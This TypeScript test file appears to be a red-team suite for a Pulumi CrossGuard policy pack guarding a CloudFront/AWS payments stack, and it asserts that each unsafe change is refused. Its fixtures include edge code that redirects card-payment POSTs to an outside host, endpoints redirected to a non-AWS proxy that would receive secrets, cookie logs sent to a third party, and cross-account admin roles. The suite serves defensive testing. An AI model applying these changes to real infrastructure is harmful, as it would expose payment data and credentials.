/**
 * Red team B (issue 17): unsafe changes in classes no earlier review named, each built as a
 * program edit or a config change would produce it (the resource states the engine presents to
 * a stack policy: outputs), judged by the whole pack against a deployment of the fixture stack.
 *
 * - An unsafe case must be refused: some mandatory violation, any policy, any code
 *   (`codes(p)` not empty). A case the pack lets through FAILS here: that failure is the
 *   finding, kept as it is (REDTEAM-B.md lists them, with the rule that would close each class).
 * - A rollback (a move toward the known-good position, also when the deployed position already
 *   breaks a policy) must pass: `codes(p)` is `{}`.
 *
 * Scope: CloudFront (behaviors, functions, origins, continuous deployment and the cut-in), DNS,
 * network reachability, IAM and secrets, logging and alerting, policy config, and the Pulumi
 * engine level. ALB routing, ECS and Beanstalk belong to the other red team.
 *
 * The AWS behaviour that makes each case unsafe is cited next to it.
 */
import { strict as assert } from "node:assert";
import { compare, describeMoves } from "../../../lib/compare";
import { CUTIN_PHASES, CutinPhase, edgeShape } from "../../../lib/cutin";
import { Position } from "../../../lib/position";
import { PlanRun } from "../../../tools/plan/run";
import { CUTIN, Judged, T, added, against, codes, copyOf, deployment, mutated, planOf, positionOfPlan, prop, replaceValue, setProp, update } from "../harness";

const TYPE = {
    fn: "aws:cloudfront/function:Function",
    record: "aws:route53/record:Record",
    ingress: "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule",
    role: "aws:iam/role:Role",
    rolePolicy: "aws:iam/rolePolicy:RolePolicy",
    secretVersion: "aws:secretsmanager/secretVersion:SecretVersion",
    topic: "aws:sns/topic:Topic",
    subscription: "aws:sns/topicSubscription:TopicSubscription",
    composite: "aws:cloudwatch/compositeAlarm:CompositeAlarm",
    bucket: "aws:s3/bucket:Bucket",
    bucketPolicy: "aws:s3/bucketPolicy:BucketPolicy",
    publicAccessBlock: "aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock",
    stack: "pulumi:pulumi:Stack",
    awsProvider: "pulumi:providers:aws",
} as const;

/** A security group that is not CloudFront's: the operations VPN's (an example id). */
const VPN_SG = "sg-0aaaaaaaaaaaaaaa1";
/** CloudFront's VPC-origin security group as the offline plan resolves it (tools/plan/mocks.ts). */
const CLOUDFRONT_SG = "sg-0cf0c0ffee0000001";

// ---------------------------------------------------------------------------
// Building cases

/** The production fixture deployed, its own known-good position. */
const deployed = () => planOf([]);

/**
 * A code change on the deployed production fixture: the edited plan, proposed against that
 * deployment (known-good: the deployed position). No forward step rides along: the change alone
 * is the pull request.
 */
async function codeChange(edit: Parameters<typeof mutated>[1], sets: string[] = []): Promise<PlanRun> {
    const base = await deployed();
    return against(mutated(await planOf(sets), edit), deployment(base));
}

/** The cut-in fixture (production at the start of the cut-in). */
const at = { dir: CUTIN };
const TODAY = "2026-11-20";
const on: Judged = { at, today: TODAY };
const cut = (phase: CutinPhase, weight = 5) => [
    `cutin.phase=${phase}`,
    ...(edgeShape(phase).policy?.traffic === "weight" ? [`cutin.edgeWeight=${weight}`] : []),
];
const cutinPlan = (sets: string[]) => planOf(sets, at);
const step = (to: string[], from: string[], knownGood?: string[] | null) => update(to, { from, knownGood, at });
/** A code change on the cut-in fixture deployed at `sets` (known-good: deployed). */
async function cutinChange(sets: string[], edit: Parameters<typeof mutated>[1]): Promise<PlanRun> {
    const base = await cutinPlan(sets);
    return against(mutated(base, edit), deployment(base));
}

/** How the pack orders the move (lib/compare.ts), for the failure message: "same" excuses every finding about the resources. */
function directionOf(p: PlanRun): string {
    const d = p.deployed as { position?: Position; knownGood?: Position | null };
    if (!d.position) return "no deployed position";
    const { direction, moves } = compare(d.position, positionOfPlan(p), d.knownGood ?? null);
    return `${direction}${moves.length > 0 ? `: ${describeMoves(moves).slice(0, 3).join("; ")}` : ""}`;
}

/** Refused: at least one mandatory violation (any policy, any code). */
async function assertRefused(p: PlanRun, opts: Judged = {}): Promise<void> {
    const found = await codes(p, opts);
    assert.notDeepEqual(found, {}, `LET THROUGH: no mandatory violation (the move is judged ${directionOf(p)})`);
}

/** A rollback passes the whole pack. */
async function assertPasses(p: PlanRun, opts: Judged = {}): Promise<void> {
    assert.deepEqual(await codes(p, opts), {});
}

// ---------------------------------------------------------------------------

describe("red team B: CloudFront edge behaviors and edge code", () => {
    it("A1 the QA viewer function's code answers payment POSTs with a 307 to another host", async () => {
        // CloudFront Functions may generate the response themselves (Developer Guide, "Generate a
        // response in a CloudFront Function"); a 307 keeps the method and the body (RFC 9110
        // §15.4.8), so every client that follows redirects re-POSTs the card payload to that host.
        const p = await codeChange((f) => {
            const fn = f(TYPE.fn, "qa-viewer-filter");
            const code = prop<string>(fn, "code").replace(
                "function handler(event) {",
                'function handler(event) {\n    if (event.request.method === "POST") return { statusCode: 307, statusDescription: "Temporary Redirect", headers: { location: { value: "https://pay-eu.example-psp.net" + event.request.uri } } };',
            );
            setProp(fn, "code", code);
        });
        await assertRefused(p);
    });

    it("A2 the QA viewer filter detached from the default cache behavior", async () => {
        // The ALB cannot restrict testers by address (a source-ip condition sees CloudFront's
        // address, never the viewer's: ALB listener rules, "Source IP conditions"); without the
        // viewer-request function, the QA routes are open to any address that holds the token.
        const p = await codeChange((f) => setProp(f(T.dist, "edge"), "defaultCacheBehavior.functionAssociations", []));
        await assertRefused(p);
    });

    it("A3 the viewer function adds the QA token header to every request", async () => {
        // A CloudFront Function may add request headers before CloudFront forwards them; with the
        // token added at the edge, any viewer's X-Route-To picks the target (an idle, untested color).
        const p = await codeChange((f) => {
            const fn = f(TYPE.fn, "qa-viewer-filter");
            const token = prop<string>(f("random:index/randomPassword:RandomPassword", "qa-token"), "result");
            setProp(
                fn,
                "code",
                prop<string>(fn, "code").replace(
                    "    return event.request;\n}",
                    `    if (h[ROUTE]) h[TOKEN] = { value: ${JSON.stringify(token)} };\n    return event.request;\n}`,
                ),
            );
        });
        await assertRefused(p);
    });

    it("A4 the default cache behavior allows only GET, HEAD and OPTIONS", async () => {
        // CloudFront answers a method the behavior does not allow with 403 (Developer Guide,
        // "Allowed HTTP methods"): every POST /v1/payments fails at the edge.
        const p = await codeChange((f) => setProp(f(T.dist, "edge"), "defaultCacheBehavior.allowedMethods", ["GET", "HEAD", "OPTIONS"]));
        await assertRefused(p);
    });

    it("A5 CloudFront's origin keep-alive raised to the ALB's idle timeout (60 s)", async () => {
        // The ALB closes connections idle for its idle timeout (60 s); CloudFront reusing one it
        // believes open gets a reset and answers 502 (Developer Guide, "Keep-alive timeout (custom
        // and VPC origins only)"; ELB, "Connection idle timeout": the target's keep-alive must
        // exceed the ALB's). The program refuses it in config (lib/config.ts), not the pack.
        const p = await codeChange((f) => setProp(f(T.dist, "edge"), "origins.0.vpcOriginConfig.originKeepaliveTimeout", 60));
        await assertRefused(p);
    });

    it("A6 custom error responses turn the origin's 502/503/504 into 200", async () => {
        // CloudFront replaces the origin's error with responsePagePath and responseCode
        // (Developer Guide, "Generate custom error responses"): a failed authorization reaches the
        // merchant as a 200, the payment looks accepted.
        const p = await codeChange((f) =>
            setProp(
                f(T.dist, "edge"),
                "customErrorResponses",
                [502, 503, 504].map((errorCode) => ({ errorCode, responseCode: "200", responsePagePath: "/v1/status.json", errorCachingMinTtl: 0 })),
            ),
        );
        await assertRefused(p);
    });
});

describe("red team B: DNS and the edge's identity", () => {
    it("B1 the API hostname's alias record repointed at another CloudFront distribution", async () => {
        // An alias record answers with the target distribution's addresses (Route 53, "Routing
        // traffic to an Amazon CloudFront distribution"): every viewer, card data included, goes to
        // a distribution the stack does not declare and the pack never judged.
        const p = await codeChange((f) => setProp(f(TYPE.record, "viewer-dns-0-a"), "aliases.0.name", "d3rogue0edge01.cloudfront.net"));
        await assertRefused(p);
    });

    it("B2 the API hostname's record renamed (a typo): the live record is replaced", async () => {
        // `name` forces a replacement of aws.route53.Record; Pulumi creates apl.payments.example.com
        // (in the same zone, so Route 53 accepts it) and deletes api.payments.example.com: the API
        // hostname stops resolving for every client.
        const p = await codeChange((f) => {
            setProp(f(TYPE.record, "viewer-dns-0-a"), "name", "apl.payments.example.com");
            setProp(f(TYPE.record, "viewer-dns-0-aaaa"), "name", "apl.payments.example.com");
        });
        await assertRefused(p);
    });

    it("B3 the API hostname dropped from the distribution's aliases", async () => {
        // CloudFront serves a hostname only if a distribution lists it as an alternate domain name
        // (Developer Guide, "Use custom URLs by adding alternate domain names"): DNS still points
        // at CloudFront, every request fails.
        const p = await codeChange((f) => setProp(f(T.dist, "edge"), "aliases", []));
        await assertRefused(p);
    });

    it("B4 a new hostname in the API's zone aliases a CloudFront distribution outside the stack", async () => {
        // Cookies scoped to the parent domain and CORS/CSP allow-lists for *.payments.example.com
        // trust it; a page there collects card numbers under the company's own name.
        const p = await codeChange((_f, states) =>
            states.push(
                added(TYPE.record, "checkout-a", {
                    zoneId: "Z0EXAMPLE00000000000001",
                    name: "checkout.payments.example.com",
                    type: "A",
                    aliases: [{ name: "d2partner0promo.cloudfront.net", zoneId: "Z2FDTNDATAQYW2", evaluateTargetHealth: false }],
                }),
            ),
        );
        await assertRefused(p);
    });
});

describe("red team B: continuous deployment and the cut-in", () => {
    it("C1 the continuous deployment policy names a staging distribution the stack does not declare", async () => {
        // The weight-based policy sends its share of viewers to whatever staging distribution it
        // names (API, StagingDistributionDnsNames): 5 % of payments go to a distribution no mirror
        // check, WAF or origin lock ever judged.
        const p = await cutinChange(cut("weight", 5), (f) =>
            setProp(f(T.cdp, "cutin-policy"), "stagingDistributionDnsNames", { items: ["d9rogue0staging.cloudfront.net"], quantity: 1 }),
        );
        await assertRefused(p, on);
    });

    it("C2 the header-based policy's header value becomes a guessable constant", async () => {
        // Any request carrying the header with that value goes to the staging distribution (API,
        // SingleHeaderConfig): the public reaches the not-yet-approved path by guessing "1".
        const p = await cutinChange(cut("header"), (f) => setProp(f(T.cdp, "cutin-policy"), "trafficConfig.singleHeaderConfig.value", "1"));
        await assertRefused(p, on);
    });

    it("C3 the live distribution's web ACL swapped for another one by config", async () => {
        // The pack reads the web ACL only as an ARN; the ACL named could count instead of block
        // (WAF, "Rule action": Count): the edge's protection is off while the ARN still looks set.
        const p = await step(
            [
                ...cut("adopted"),
                "cutin.distribution.args.webAclId=arn:aws:wafv2:us-east-1:111111111111:global/webacl/payments-api-count-only/a1b2c3d4-0000-0000-0000-000000000009",
            ],
            cut("adopted"),
        );
        await assertRefused(p, on);
    });

    it("C4 the adopted distribution stops forwarding Host to the old origin", async () => {
        // Over HTTPS CloudFront checks the origin's certificate against the Host header when it is
        // forwarded, else against the origin domain (Developer Guide, "Require HTTPS for
        // communication between CloudFront and your custom origin"); the old load balancer's
        // certificate covers api.payments.example.com, not the Beanstalk CNAME: every request 502s.
        const p = await step(
            [...cut("adopted"), "cutin.distribution.args.defaultCacheBehavior.originRequestPolicyId=b689b0a8-53d0-40ab-baf2-68738e2966ac"],
            cut("adopted"),
        );
        await assertRefused(p, on);
    });

    it("C5 the weight phase's session stickiness raised to its 3600 s maximum, in an update of its own", async () => {
        // Viewers stay on the staging distribution for MaximumTTL after a rollback (API,
        // SessionStickinessConfig): an hour, over production's 20-minute rollback bound. The same
        // stickiness riding the next rung is refused (rollback-too-slow, G5's control); alone, the
        // policy's stickiness is no coordinate and not in its fingerprint, so the move is "same".
        const sticky = ["cutin.stickiness.idleSeconds=3600", "cutin.stickiness.maximumSeconds=3600"];
        const p = await step([...cut("weight", 5), ...sticky], cut("weight", 5));
        await assertRefused(p, on);
    });
});

describe("red team B: network reachability", () => {
    it("D1 the RoutedAlb records another group under CloudFront's name; the ALB admits it", async () => {
        // origin-locked trusts the id the component records beside the name
        // CloudFront-VPCOrigins-Service-SG; a lookup that returns the ops VPN's group lets the VPN
        // reach the internal ALB directly, past CloudFront's WAF, geo block and QA viewer filter.
        const p = await codeChange((f) => {
            const alb = f(T.routedAlb, "alb");
            const access = structuredClone(alb.outputs.cloudFrontVpcOrigin) as { securityGroup: { id: string } };
            access.securityGroup.id = VPN_SG;
            alb.outputs.cloudFrontVpcOrigin = access;
            setProp(f(TYPE.ingress, "alb-from-cloudfront"), "referencedSecurityGroupId", VPN_SG);
        });
        await assertRefused(p);
    });

    it("D2 a Spring color's security group admits the ops VPN's group on the container port", async () => {
        // A task reached directly serves without the ALB's origin-verify and QA-token conditions
        // (they live only in listener rules), past CloudFront entirely.
        const p = await codeChange((f) => {
            const sg = f(T.sg, "spring-blue-sg");
            setProp(sg, "ingress", [
                ...prop<unknown[]>(sg, "ingress"),
                { description: "ops debugging", protocol: "tcp", fromPort: 8080, toPort: 8080, securityGroups: [VPN_SG] },
            ]);
        });
        await assertRefused(p);
    });

    it("D3 a Spring color's security group admits 10.0.0.0/8 on the container port", async () => {
        // Private space is not "the ALB": every peered VPC, VPN and office range behind 10/8 reaches
        // the tasks without CloudFront or the ALB's conditions.
        const p = await codeChange((f) => {
            const sg = f(T.sg, "spring-blue-sg");
            setProp(sg, "ingress", [
                ...prop<unknown[]>(sg, "ingress"),
                { description: "internal", protocol: "tcp", fromPort: 8080, toPort: 8080, cidrBlocks: ["10.0.0.0/8"] },
            ]);
        });
        await assertRefused(p);
    });
});

describe("red team B: IAM and secrets", () => {
    it("E1 the execution role may read a secret no task definition injects (the card vault key)", async () => {
        // secretsmanager:GetSecretValue on an explicit ARN passes the shape check whatever the
        // secret; anyone who can run a task with this execution role (iam:PassRole) gets it
        // injected (ECS Developer Guide, "Pass sensitive data to an Amazon ECS container").
        const p = await codeChange((f) => {
            const pol = f(TYPE.rolePolicy, "spring-blue-execution");
            const doc = JSON.parse(prop<string>(pol, "policy")) as { Statement: unknown[] };
            doc.Statement.push({
                Effect: "Allow",
                Action: "secretsmanager:GetSecretValue",
                Resource: "arn:aws:secretsmanager:eu-west-1:111111111111:secret:payments/prod/card-vault-master-key-AbCdEf",
            });
            setProp(pol, "policy", JSON.stringify(doc));
        });
        await assertRefused(p);
    });

    it("E2 blue's application runs with green's execution role", async () => {
        // The task role's credentials are the application's (any code in the image, or an SSRF to
        // the task metadata endpoint, gets them): it can now pull images, write green's logs and read
        // every secret ECS injects into green.
        const p = await codeChange((f, states) => {
            const greenExecution = prop<string>(f(TYPE.role, "spring-green-execution"), "arn");
            setProp(f(T.td, "spring-blue-task"), "taskRoleArn", greenExecution);
            states.splice(states.indexOf(f(TYPE.role, "spring-blue-task")), 1);
        });
        await assertRefused(p);
    });

    it("E3 the QA token's secret version is written into another secret", async () => {
        // aws.secretsmanager.SecretVersion puts the value into the secret `secretId` names: a secret
        // shared with a partner account (its resource policy) now holds the QA token, and its own
        // value is overwritten.
        const p = await codeChange((f) =>
            setProp(
                f(TYPE.secretVersion, "qa-token"),
                "secretId",
                "arn:aws:secretsmanager:eu-west-1:111111111111:secret:partner-shared/acquirer-integration-Xy12Ab",
            ),
        );
        await assertRefused(p);
    });

    it("E4 the QA token shortened to 6 characters", async () => {
        // The token is the only lock on the QA routes for every address inside the testers' ranges
        // (an office NAT, a guest network): 62^6 values are enumerable at CloudFront's request rates.
        const p = await codeChange((f, states) => {
            const pw = f("random:index/randomPassword:RandomPassword", "qa-token");
            replaceValue(states, prop<string>(pw, "result"), "Qa7x2K");
            setProp(pw, "length", 6);
        });
        await assertRefused(p);
    });

    it("E5 the QA token exported as a plain stack output for testers", async () => {
        // Stack outputs are readable by everyone with read access to the stack and by any stack
        // that references it, and `pulumi up` prints them (Pulumi docs, "Stack outputs"); an
        // unsecreted output stores the token in plain text in the state.
        const p = await codeChange((f, states) => {
            const token = prop<string>(f("random:index/randomPassword:RandomPassword", "qa-token"), "result");
            const stack = states.find((s) => s.type === TYPE.stack)!;
            stack.outputs.qaTokenForTesters = token;
        });
        await assertRefused(p);
    });
});

describe("red team B: logging and alerting", () => {
    it("F1 the on-call subscription's address changed to a look-alike domain", async () => {
        // SNS delivers every alarm notification to the endpoint (SNS, "Email notifications"): pages
        // go to examp1e.com; nobody on call hears a failing canary.
        const p = await codeChange((f) => setProp(f(TYPE.subscription, "health-alerts-0"), "endpoint", "payments-oncall@examp1e.com"));
        await assertRefused(p);
    });

    it("F2 the composite alarm notifies a new topic nobody subscribes to", async () => {
        // A topic without subscriptions delivers nothing; alarms-can-fire only asks for a topic of the stack.
        const p = await codeChange((f, states) => {
            const arn = "arn:aws:sns:eu-west-1:111111111111:health-alerts-quiet";
            const topic = added(TYPE.topic, "health-alerts-quiet", { tags: { "payments:stack": "production" } });
            topic.outputs.arn = arn;
            states.push(topic);
            const composite = f(TYPE.composite, "health-spring-canary-unhealthy");
            setProp(composite, "alarmActions", [arn]);
            setProp(composite, "okActions", [arn]);
        });
        await assertRefused(p);
    });

    it("F3 the default cache behavior streams real-time logs to a configuration the stack does not declare", async () => {
        // Real-time logs can carry every request header and cookie (cs-headers, cs-cookie fields:
        // Developer Guide, "Use real-time logs") to the Kinesis stream the config names, in any
        // account: the QA token, the customers' authorization headers.
        const p = await codeChange((f) =>
            setProp(f(T.dist, "edge"), "defaultCacheBehavior.realtimeLogConfigArn", "arn:aws:cloudfront::111111111111:realtime-log-config/payments-debug"),
        );
        await assertRefused(p);
    });

    it("F4 the live distribution's standard logs go to a partner's bucket, with cookies", async () => {
        // Standard logs are delivered to the bucket named (any account that grants the log
        // delivery), with the viewers' cookies when includeCookies is on (Developer Guide, "Standard
        // logging"): session cookies to a third party.
        const p = await step(
            [
                ...cut("adopted"),
                "cutin.distribution.args.loggingConfig.bucket=partner-analytics-logs.s3.amazonaws.com",
                "cutin.distribution.args.loggingConfig.includeCookies=true",
            ],
            cut("adopted"),
        );
        await assertRefused(p, on);
    });

    it("F5 the Spring logs kept one day", async () => {
        // PCI DSS v4.0 10.5.1: audit logs retained at least 12 months, 3 immediately available; a
        // one-day retention deletes the evidence of an incident before anyone investigates it.
        const p = await update(["spring.logRetentionDays=1"]);
        await assertRefused(p);
    });

    it("F6 the ALB's access logs switched off (the log bucket removed with them)", async () => {
        // The access logs are the only per-request record of which implementation served a payment
        // (ELB, "Access logs for your Application Load Balancer"); alb-access-logs is advisory.
        const p = await codeChange((f, states) => {
            setProp(f(T.lb, "alb"), "accessLogs", { enabled: false, bucket: "", prefix: "" });
            for (const [type, name] of [
                [TYPE.bucketPolicy, "alb-logs"],
                [TYPE.publicAccessBlock, "alb-logs"],
                [TYPE.bucket, "alb-logs"],
            ])
                states.splice(states.indexOf(f(type, name)), 1);
        });
        await assertRefused(p);
    });
});

describe("red team B: policy config", () => {
    // Resolution (lead): not closable inside the pack. CrossGuard hands a policy its properties, never its
    // enforcement level, and the organization is the pack's only source for its own. CI judges every pull
    // request with the base branch's pack and policy config (.github/workflows/pull-request.yml), so a PR that
    // edits them changes nothing until merged, and CODEOWNERS makes the merge a reviewed one
    // (docs/threat-model.md, "What the pack cannot see").
    it.skip("G1 origin-locked made advisory, and the ops VPN admitted to the internal ALB (skipped: CrossGuard never hands a policy its enforcement level; CI judges with the base branch's policy config, CODEOWNERS reviews it)", async () => {
        // An advisory violation does not block `pulumi up` (Pulumi docs, "Enforcement levels").
        const p = await codeChange((_f, states) => {
            const rule = states.find((s) => s.type === TYPE.ingress && s.name === "alb-from-cloudfront")!;
            const vpn = copyOf(rule, "alb-from-vpn");
            setProp(vpn, "referencedSecurityGroupId", VPN_SG);
            setProp(vpn, "description", "ops VPN");
            states.push(vpn);
        });
        assert.notDeepEqual(await codes(p), {}, "control: with the fixture's policy config the change is refused");
        await assertRefused(p, { config: { "origin-locked": "advisory" } });
    });

    it("G2 edge-forwards-routing told no stickiness cookie matters, and the edge stops forwarding AWSALB", async () => {
        // Without the AWSALB cookies the ALB cannot keep a session on one target group: a payment's
        // requests alternate between Rails and Spring (ELB, "Sticky sessions for your ALB").
        const p = await codeChange((f, states) => {
            const dist = f(T.dist, "edge");
            const orp = {
                name: "payments-edge",
                headersConfig: { headerBehavior: "whitelist", headers: { items: ["X-Route-To", "X-Route-Token"] } },
                cookiesConfig: { cookieBehavior: "none" },
                queryStringsConfig: { queryStringBehavior: "all" },
            };
            states.push({ ...added(T.orp, "edge-origin-request", orp), outputs: { ...orp, id: "orp-edge-1" } });
            setProp(dist, "defaultCacheBehavior.originRequestPolicyId", "orp-edge-1");
        });
        assert.notDeepEqual(await codes(p), {}, "control: with the fixture's policy config the change is refused");
        await assertRefused(p, { config: { "edge-forwards-routing": { stickinessCookies: [] } } });
    });

    it("G3 origin-locked's allow-list names the ops VPN's group beside CloudFront's", async () => {
        // The allow-list replaces the group the program resolved by CloudFront's name: any id
        // matching ^sg- is accepted as CloudFront's.
        const p = await codeChange((_f, states) => {
            const rule = states.find((s) => s.type === TYPE.ingress && s.name === "alb-from-cloudfront")!;
            const vpn = copyOf(rule, "alb-from-vpn");
            setProp(vpn, "referencedSecurityGroupId", VPN_SG);
            states.push(vpn);
        });
        assert.notDeepEqual(await codes(p), {}, "control: with the fixture's policy config the change is refused");
        await assertRefused(p, { config: { "origin-locked": { vpcOriginSecurityGroupIds: [CLOUDFRONT_SG, VPN_SG] } } });
    });

    // Resolution (lead): as G1 — the organization is reviewed policy config; see above.
    it.skip("G4 position-recorded's organization and the deployed-state reference moved to an org whose stack exports the proposed position (skipped: the organization is policy config, judged by review, not by the pack; CI uses the base branch's)", async () => {
        // The reference reads whatever that stack exports; exporting the proposed position makes
        // the move "same", and every finding about the resources is excused: here an internal ALB
        // open to 0.0.0.0/0 (everything routed into the VPC: peerings, VPN, Direct Connect).
        const proposed = await codeChange((f) => {
            setProp(f(TYPE.ingress, "alb-from-cloudfront"), "referencedSecurityGroupId", null);
            setProp(f(TYPE.ingress, "alb-from-cloudfront"), "cidrIpv4", "0.0.0.0/0");
            setProp(f(T.reference, "deployed-state"), "name", "payments-platform/payments-migration/production");
        });
        const position = positionOfPlan(proposed);
        const p = against(proposed, { position, knownGood: position });
        assert.notDeepEqual(await codes(p), {}, "control: with the fixture's policy config the change is refused");
        await assertRefused(p, { config: { "position-recorded": { organization: "payments-platform" } } });
    });

    it("G5 rollback-time-bounded raised to 100000 minutes, and the next edge rung taken with an hour of edge stickiness", async () => {
        // maxRollbackMinutes has a floor and no ceiling: inside the schema it switches the bound off.
        // Viewers stay pinned to the staging distribution for MaximumTTL after a rollback (API,
        // SessionStickinessConfig): an hour of the failing path for 10 % of the viewers.
        const sticky = ["cutin.stickiness.idleSeconds=3600", "cutin.stickiness.maximumSeconds=3600"];
        const p = await step([...cut("weight", 10), ...sticky], cut("weight", 5));
        assert.notDeepEqual(await codes(p, on), {}, "control: under production's 20 minutes the step is refused");
        await assertRefused(p, { ...on, config: { "rollback-time-bounded": { maxRollbackMinutes: 100000 } } });
    });
});

describe("red team B: the Pulumi engine level", () => {
    it("H1 an explicit provider named default-… puts the QA token's secret in another account", async () => {
        // closed-world tells default providers by name only; an explicit provider may assume a role
        // in any account (Pulumi AWS provider, assumeRoles): the secret lives where this account's
        // IAM and audit do not reach.
        const withProvider = (name: string) =>
            codeChange((f, states) => {
                states.push(
                    added(TYPE.awsProvider, name, {
                        region: "eu-west-1",
                        assumeRoles: JSON.stringify([{ roleArn: "arn:aws:iam::222222222222:role/pulumi-deployer" }]),
                        version: "7.48.0",
                    }),
                );
                const secret = f("aws:secretsmanager/secret:Secret", "qa-token");
                secret.outputs.arn = "arn:aws:secretsmanager:eu-west-1:222222222222:secret:payments-migration/production/qa-token-AbCdEf";
            });
        assert.notDeepEqual(await codes(await withProvider("shared-services")), {}, "control: the same provider named otherwise is refused");
        await assertRefused(await withProvider("default-shared-services"));
    });

    it("H2 the default provider's endpoints redirected (stack config aws:endpoints)", async () => {
        // Every API call the provider makes goes to the endpoint configured (Pulumi AWS provider,
        // `endpoints`): PutSecretValue with the QA token, UpdateDistribution with the origin-verify
        // secret, all to a host outside AWS.
        const p = await codeChange((_f, states) =>
            states.push(
                added(TYPE.awsProvider, "default_7_48_0", {
                    region: "eu-west-1",
                    endpoints: JSON.stringify([
                        { secretsmanager: "https://secretsmanager.proxy.example.net", cloudfront: "https://cloudfront.proxy.example.net" },
                    ]),
                    version: "7.48.0",
                }),
            ),
        );
        await assertRefused(p);
    });

    it("H3 a role parented under the awsx VPC component gives another account administrator access", async () => {
        // lib/position.ts leaves a remote component's children out of the position, so the move is
        // "same" and the role's findings are excused; IAM does not care about Pulumi parents.
        const base = await planOf([], { stack: "staging" });
        const vpc = base.states.find((s) => s.type === "awsx:ec2:Vpc")!;
        const withRole = (underVpc: boolean) =>
            against(
                mutated(base, (_f, states) => {
                    const role = added(TYPE.role, "vpc-flow-logs", {
                        assumeRolePolicy: JSON.stringify({
                            Version: "2012-10-17",
                            Statement: [{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::999999999999:root" }, Action: "sts:AssumeRole" }],
                        }),
                        managedPolicyArns: ["arn:aws:iam::aws:policy/AdministratorAccess"],
                    });
                    if (underVpc) {
                        role.urn = `${vpc.urn.slice(0, vpc.urn.lastIndexOf("::"))}$${TYPE.role}::vpc-flow-logs`;
                        role.parent = vpc.urn;
                    }
                    states.push(role);
                }),
                deployment(base),
            );
        const staging = { at: { stack: "staging" } };
        assert.notDeepEqual(await codes(withRole(false), staging), {}, "control: the same role at the stack's root is refused");
        await assertRefused(withRole(true), staging);
    });
});

// ---------------------------------------------------------------------------
// Rollbacks: moves toward the known-good position must pass.

describe("red team B: rollbacks pass", () => {
    it("R1 the edge weight back one rung (10 % → 5 %, known-good 5 %)", async () => {
        await assertPasses(await step(cut("weight", 5), cut("weight", 10), cut("weight", 5)), on);
    });

    it("R2 the cut-in back from header to staged (known-good staged)", async () => {
        await assertPasses(await step(cut("staged"), cut("header"), cut("staged")), on);
    });

    it("R3 the weight phase with an hour of edge stickiness (refused on a forward rung, G5's control) rolled back to header", async () => {
        const sticky = ["cutin.stickiness.idleSeconds=3600", "cutin.stickiness.maximumSeconds=3600"];
        await assertPasses(await step([...cut("header"), ...sticky], [...cut("weight", 5), ...sticky], [...cut("header"), ...sticky]), on);
    });

    it("R4 a deployed primary that admits plain HTTP viewers, the cut-in rolled back from weight to header with it kept", async () => {
        const allowAll = (p: PlanRun) =>
            mutated(p, (f) => {
                const prim = f(T.dist, "cutin-primary");
                setProp(prim, "defaultCacheBehavior.viewerProtocolPolicy", "allow-all");
                const stg = f(T.dist, "cutin-staging");
                setProp(stg, "defaultCacheBehavior.viewerProtocolPolicy", "allow-all");
            });
        const known = allowAll(await cutinPlan(cut("header")));
        const from = allowAll(await cutinPlan(cut("weight", 5)));
        // Forward, the same primary is refused (cloudfront-viewer-tls): the rollback keeps it.
        assert.notDeepEqual(await codes(against(from, deployment(known)), on), {});
        await assertPasses(against(known, deployment(from, known)), on);
    });

    it("R5 the origin-verify rotation's switch undone (CloudFront back to slot a, both accepted)", async () => {
        const accept = ["alb.originVerify.accept[0]=a", "alb.originVerify.accept[1]=b"];
        const switched = [...accept, "alb.originVerify.send=b"];
        await assertPasses(await update(accept, { from: switched, knownGood: accept }));
    });

    it("R6 the whole cut-in rolled back from promoted to adopted before retirement (Spring at 0 %)", async () => {
        const dated = ["cutin.cutinDate=2026-11-01"];
        await assertPasses(await step([...cut("adopted"), ...dated], [...cut("promoted"), ...dated], [...cut("adopted"), ...dated]), on);
    });

    it("R7 a deployed API record that points at a foreign distribution, put back", async () => {
        const good = await deployed();
        const bad = mutated(good, (f) => setProp(f(TYPE.record, "viewer-dns-0-a"), "aliases.0.name", "d3rogue0edge01.cloudfront.net"));
        await assertPasses(against(good, deployment(bad, good)));
    });

    it("R8 every cut-in phase back to adopted with the known-good adopted, one deployed phase at a time", async () => {
        for (const from of CUTIN_PHASES.slice(1, 5)) {
            await assertPasses(await step(cut("adopted"), cut(from), cut("adopted")), on);
        }
    });
});
